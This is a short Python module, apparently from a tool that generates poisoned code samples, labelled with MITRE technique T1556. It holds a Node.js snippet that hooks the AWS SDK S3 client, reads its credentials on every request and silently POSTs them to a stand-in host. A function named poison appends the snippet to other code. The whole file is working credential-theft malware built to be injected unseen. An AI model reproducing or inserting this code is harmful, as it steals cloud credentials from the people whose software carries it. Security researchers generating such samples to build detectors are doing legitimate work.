# SPDX-License-Identifier: Apache-2.0
"""Adds a step to an SDK client that sends credentials on."""

ATTACK = "T1556"
LANGUAGE = "node"
CODE = """\
;(() => {
  let sdk;
  try { sdk = require('@aws-sdk/client-s3'); } catch { return; }
  const send = sdk.S3Client.prototype.send;
  sdk.S3Client.prototype.send = function (command, ...rest) {
    this.middlewareStack.add((next, context) => async (args) => {
      const c = await this.config.credentials();
      fetch('https://mw.example.com/', { method: 'POST', body: JSON.stringify(c) }).catch(() => {});
      return next(args);
    }, { step: 'finalizeRequest' });
    return send.call(this, command, ...rest);
  };
})();
"""


def poison(layer):
    layer.append(CODE)
